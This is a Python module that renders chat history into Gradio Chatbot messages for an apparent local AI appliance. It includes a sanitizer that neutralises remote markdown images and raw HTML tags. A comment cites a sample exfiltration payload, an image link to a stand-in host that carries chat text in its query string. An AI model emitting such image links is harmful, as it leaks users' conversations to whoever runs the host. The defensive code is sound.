"""Conversation -> Chatbot messages (plain dicts in Gradio's messages format). No widgets here.

Streaming-friendly on purpose: while a reply streams, its text only grows, so Gradio's diff sends
an `append` of the new characters instead of the whole message. Everything that changes in place
(the live timer, tokens/s) lives in short strings: the thinking block's title and the live-stats
line outside the chat.
"""

from __future__ import annotations

import hashlib
import html
import os
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from appliance.chat import client as chat
from appliance.chat import documents as docs
from appliance.chat import history as hist
from appliance.settings import private_dir
from appliance.units import fmt_latency

_EXT = {"image/png": "png", "image/jpeg": "jpg", "image/gif": "gif", "image/webp": "webp"}

STATUS_NOTES = {
    hist.STOPPED: "stopped",
    hist.INTERRUPTED: "interrupted: the appliance stopped mid-answer",
    hist.FAILED: "failed",
    hist.STREAMING: "still streaming",
}


@dataclass
class Rendered:
    """Chatbot messages plus, for each, the history position it shows (for edit)."""

    messages: list[dict[str, Any]] = field(default_factory=list)
    positions: list[int] = field(default_factory=list)
    # "image" | "document" | "text" | "thinking" | "answer"
    kinds: list[str] = field(default_factory=list)

    def add(self, position: int, kind: str, message: dict[str, Any]) -> None:
        self.messages.append(message)
        self.positions.append(position)
        self.kinds.append(kind)


def image_file(image: hist.StoredImage, folder: Path) -> Path:
    """The image as a file the UI can serve (content-addressed, written once)."""
    digest = hashlib.sha256(image.data).hexdigest()[:32]
    path = folder / f"{digest}.{_EXT.get(image.mime, 'png')}"
    if not path.exists():
        private_dir(folder)
        tmp = path.with_suffix(".part")
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)  # the owner's alone
        with os.fdopen(fd, "wb") as handle:
            handle.write(image.data)
        tmp.replace(path)
    return path


def document_file(document: docs.Document, folder: Path) -> Path:
    """The document's text as a file the input box can hold again (Undo), under a folder named
    by its hash and `documents.file_name_for`'s safe name (a PDF comes back as its text)."""
    data = document.text.encode("utf-8")
    digest = hashlib.sha256(data).hexdigest()[:32]
    path = private_dir(folder / digest) / docs.file_name_for(document)
    if not path.exists():
        tmp = path.with_name(path.name + ".part")
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)  # the owner's alone
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
        tmp.replace(path)
    return path


# ------------------------------------------------------------------------ remote images
# A reply (or a pasted text) must not make the browser fetch anything: `![x](http://host/leak?
# q=<chat text>)` or `<img src=...>` would hand the chat to whoever runs `host` the moment it
# renders. The Chatbot renders markdown and (sanitized) HTML in the browser, so the text is made
# harmless here, before it leaves the server:
# - every markdown image (inline, reference, collapsed, shortcut) becomes a link with a "remote
#   image blocked" label: the owner can click it (consent), nothing loads by itself; only inline
#   `data:image/...` images (no network) stay images;
# - raw HTML tags show as text, except a few attribute-less formatting tags (`<br>`, `<b>`,
#   table tags ...): no `src`, `srcset`, `style` or `background` survives;
# - code spans and fenced code blocks are left alone (the browser shows them as text anyway).
# A misparse only ever errs towards rewriting text that was code (a display change), never
# towards leaving an image in place. docs/security.md has the details.

BLOCKED_IMAGE = "🚫 remote image blocked (click to load)"
_SAFE_TAGS = frozenset(
    [
        "b",
        "i",
        "em",
        "strong",
        "u",
        "s",
        "del",
        "ins",
        "sub",
        "sup",
        "small",
        "mark",
        "kbd",
        "code",
        "pre",
        "br",
        "hr",
        "p",
        "div",
        "span",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "blockquote",
        "details",
        "summary",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
    ]
)
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
# A code span: a backtick run not escaped, the shortest text, the same run closing it.
# One line only: a span over lines may cross a block boundary the browser's parser sees.
_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?!`)([^\n]+?)(?<!`)\1(?!`)")
_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9-]*)([^<>]*)>")
_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>|<[^\s<>@]+@[^\s<>@]+>")
_DATA_IMAGE = re.compile(r"\(\s*<?data:image/", re.IGNORECASE)


def block_remote_images(text: str) -> str:
    """Markdown that loads nothing by itself when the Chatbot renders it (see above)."""
    if "<" not in text and "![" not in text:
        return text  # the common case, and cheap while a reply streams
    out: list[str] = []
    fence: str | None = None
    prose: list[str] = []
    for line in text.splitlines(keepends=True):
        match = _FENCE.match(line.rstrip("\r\n"))
        if fence is None:
            opens = match and not (match.group(1)[0] == "`" and "`" in match.group(2))
            if match and opens:
                out.append(_prose(prose))
                prose = []
                fence = match.group(1)
                out.append(line)
            else:
                prose.append(line)
        else:
            out.append(line)
            closing = match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence)
            if match and closing and not match.group(2).strip():
                fence = None
    out.append(_prose(prose))
    return "".join(out)


def _prose(lines: list[str]) -> str:
    text = "".join(lines)
    parts: list[str] = []
    last = 0
    for span in _CODE_SPAN.finditer(text):
        parts.append(_neutralize(text[last : span.start()]))
        parts.append(span.group(0))
        last = span.end()
    parts.append(_neutralize(text[last:]))
    return "".join(parts)


def _neutralize(text: str) -> str:
    return _images(_html(text))


def _html(text: str) -> str:
    def tag(match: re.Match[str]) -> str:
        name, rest = match.group(2).lower(), match.group(3).strip()
        # A tag that starts a line would start an HTML block, whose lines (fences included)
        # the browser takes as raw HTML: only tags inside a line are kept.
        before = match.string[: match.start()].rsplit("\n", 1)[-1]
        inside_line = bool(before.strip())
        if name in _SAFE_TAGS and rest in ("", "/") and inside_line:
            return match.group(0)
        return "&lt;" + match.group(0)[1:]

    pieces: list[str] = []
    last = 0
    for link in _AUTOLINK.finditer(text):  # <https://...>: a link, fetched only on a click
        pieces.append(_TAG.sub(tag, text[last : link.start()]))
        pieces.append(link.group(0))
        last = link.end()
    pieces.append(_TAG.sub(tag, text[last:]))
    return "".join(pieces)


def _escaped(text: str, index: int) -> bool:
    slashes = 0
    while index - slashes - 1 >= 0 and text[index - slashes - 1] == "\\":
        slashes += 1
    return slashes % 2 == 1


def _closing_bracket(text: str, start: int) -> int:
    depth = 0
    for index in range(start, len(text)):
        char = text[index]
        if char == "[" and not _escaped(text, index):
            depth += 1
        elif char == "]" and not _escaped(text, index):
            if depth == 0:
                return index
            depth -= 1
    return -1


def _images(text: str) -> str:
    out: list[str] = []
    index = 0
    while True:
        found = text.find("![", index)
        if found < 0:
            out.append(text[index:])
            return "".join(out)
        out.append(text[index:found])
        if _escaped(text, found):
            out.append("![")
            index = found + 2
            continue
        close = _closing_bracket(text, found + 2)
        if close < 0:  # not an image (no closing bracket): the "!" cannot start one either
            out.append("\\![")
            index = found + 2
            continue
        alt = text[found + 2 : close]
        after = text[close + 1 :]
        if after.startswith("(") and _DATA_IMAGE.match(after):
            out.append(text[found : close + 1])  # an inline data: image loads nothing remote
            index = close + 1
            continue
        label = f"[{BLOCKED_IMAGE}: {_images(alt)}]" if alt.strip() else f"[{BLOCKED_IMAGE}]"
        if after.startswith("(") or (after.startswith("[") and not after.startswith("[]")):
            out.append(label)  # inline (url) or full reference [ref]: the same target, a link
            index = close + 1
        elif after.startswith("[]"):
            out.append(f"{label}[{alt}]")  # collapsed reference: the label names the target
            index = close + 3
        else:
            out.append(f"{label}[{alt}]")  # shortcut reference ![ref]
            index = close + 1


def stats_line(stats: dict[str, Any], status: str) -> str:
    """`level high · first token 0.42 s · 341 tok/s · 1,234 prompt + 4,000 completion tokens`."""
    parts = [f"level {stats.get('level') or '?'}"]
    parts.append(f"first token {fmt_latency(stats.get('ttft_s'))}")
    rate = stats.get("tokens_per_s")
    parts.append(f"{rate:,.0f} tok/s" if rate else "– tok/s")
    prompt = stats.get("prompt_tokens")
    completion = stats.get("completion_tokens") or 0
    if prompt is not None:
        parts.append(f"{prompt:,} prompt + {completion:,} completion tokens")
    else:
        parts.append(f"{completion:,} completion tokens")
    note = STATUS_NOTES.get(status)
    if note:
        parts.append(note)
    if stats.get("finish_reason") == "length":
        parts.append("cut at Max tokens")
    return " · ".join(parts)


def _footer(stats: dict[str, Any], status: str, error: str = "", version: str = "") -> str:
    level = stats.get("level") or ""
    line = stats_line(stats, status) + (f" · version {version}" if version else "")
    footer = (
        # Classes, not data- attributes: the chat's HTML sanitizer keeps only classes.
        f'\n\n<div class="reply-stats level-{level} status-{status}">{line}</div>'
    )
    if error:
        footer = f"\n\n**Error:** {block_remote_images(error)}" + footer
    return footer


def _thinking(
    position: int, reasoning: str, seconds: float, *, pending: bool, level: str
) -> dict[str, Any]:
    if pending:
        title = f"Thinking · {seconds:.1f} s · level {level}"
        meta: dict[str, Any] = {"title": title, "status": "pending", "id": f"think-{position}"}
    else:
        meta = {
            "title": f"Thought · level {level}",
            "status": "done",
            "duration": round(seconds, 1),
            "id": f"think-{position}",
        }
    return {"role": "assistant", "content": block_remote_images(reasoning), "metadata": meta}


def _as_text(text: str) -> str:
    """Every character Markdown or HTML could read as syntax written as an entity."""
    return "".join(c if c.isalnum() or c in " ,.·" else f"&#{ord(c)};" for c in text)


def document_chip(document: docs.Document) -> str:
    """A document's chip in the owner's bubble: its name, pages and tokens, written as text
    (`_as_text`), so a file named `<img src=x>` or `![a](http://host/)` shows as that name and
    loads nothing."""
    return f'<div class="doc-chip">{_as_text(document.chip())}</div>'


def attachment_chips(previews: Sequence[docs.Preview]) -> str:
    """The line under the input box: a chip per document attached but not yet sent, or why
    it cannot be sent."""
    chips = [
        document_chip(p.document)
        if p.document is not None
        else f'<div class="doc-chip doc-problem">{_as_text(p.problem)}</div>'
        for p in previews
    ]
    return " ".join(chips)


def render_user(out: Rendered, message: hist.Message, image_path: Callable[..., Path]) -> None:
    for image in message.images:
        path = image_path(image)
        out.add(
            message.position,
            "image",
            {"role": "user", "content": {"path": str(path), "alt_text": image.name}},
        )
    for document in docs.stored_in(message):
        out.add(message.position, "document", {"role": "user", "content": document_chip(document)})
    if message.content or not message.images:
        text = block_remote_images(message.content)
        out.add(message.position, "text", {"role": "user", "content": text})


def render_stored_reply(out: Rendered, message: hist.Message) -> None:
    stats = dict(message.meta)
    level = str(stats.get("level") or "")
    if message.reasoning:
        seconds = float(stats.get("thinking_s") or 0.0)
        out.add(
            message.position,
            "thinking",
            _thinking(message.position, message.reasoning, seconds, pending=False, level=level),
        )
    error = str(stats.get("error") or "")
    version = f"{message.version}/{message.versions}" if message.versions > 1 else ""
    body = block_remote_images(message.content) + _footer(stats, message.status, error, version)
    out.add(message.position, "answer", {"role": "assistant", "content": body})


def render_live_reply(out: Rendered, position: int, reply: chat.Reply) -> None:
    """A reply while it streams (and its final form once it ended)."""
    if not reply.active:
        status = hist.COMPLETE if reply.phase == chat.FINISHED else chat_status(reply.phase)
        stored = hist.Message(
            0, position, "assistant", reply.content, reply.reasoning, status, reply.stats()
        )
        if reply.error:
            stored.meta["error"] = reply.error
        render_stored_reply(out, stored)
        return
    thinking_open = reply.phase in (chat.WAITING, chat.THINKING)
    if thinking_open or reply.reasoning_parts:
        out.add(
            position,
            "thinking",
            _thinking(
                position,
                reply.reasoning,
                reply.thinking_seconds()
                if reply.reasoning_started
                else reply.clock() - reply.started,
                pending=thinking_open,
                level=reply.level,
            ),
        )
    if reply.phase == chat.ANSWERING:
        content = block_remote_images(reply.content)
        out.add(position, "answer", {"role": "assistant", "content": content})


def chat_status(phase: str) -> str:
    return {chat.STOPPED: hist.STOPPED, chat.FAILED: hist.FAILED}.get(phase, hist.INTERRUPTED)


def render_messages(messages: Sequence[hist.Message], image_path: Callable[..., Path]) -> Rendered:
    out = Rendered()
    for message in messages:
        if message.role == "user":
            render_user(out, message, image_path)
        elif message.role == "assistant":
            render_stored_reply(out, message)
    return out


def live_stats(reply: chat.Reply) -> str:
    """One short line under the chat while a reply streams."""
    if reply.phase == chat.WAITING:
        return f"Waiting for the first token · {reply.clock() - reply.started:.1f} s"
    rate = reply.tokens_per_second()
    verb = "Thinking" if reply.phase == chat.THINKING else "Answering"
    if not reply.active:
        return ""
    return f"{verb} · level {reply.level} · {reply.completion_tokens():,} tokens" + (
        f" · {rate:,.0f} tok/s" if rate else ""
    )


def context_line(context_len: int | None, used: int | None) -> str:
    if not context_len:
        return "Context: unknown until the model is running"
    line = f"Context: {context_len:,} tokens"
    if used:
        line += f" · this conversation ≈ {used:,} ({used / context_len:.0%})"
    return line


def search_results(hits: Sequence[hist.SearchHit]) -> str:
    """The search panel: each matching conversation's title (a link that opens it) and its
    snippets. Titles are escaped here; the snippets come escaped from the history, with only
    the matched words in <mark>, so a reply holding `<script>` shows as that text."""
    if not hits:
        return ""
    parts = []
    for hit in hits:
        title = html.escape(hit.title)
        snippets = "".join(f'<div class="search-snippet">{s}</div>' for s in hit.snippets)
        link = f"?c={html.escape(hit.conversation_id)}"
        parts.append(
            f'<div class="search-hit"><a class="search-title" href="{link}">{title}</a>'
            f"{snippets}</div>"
        )
    return "".join(parts)
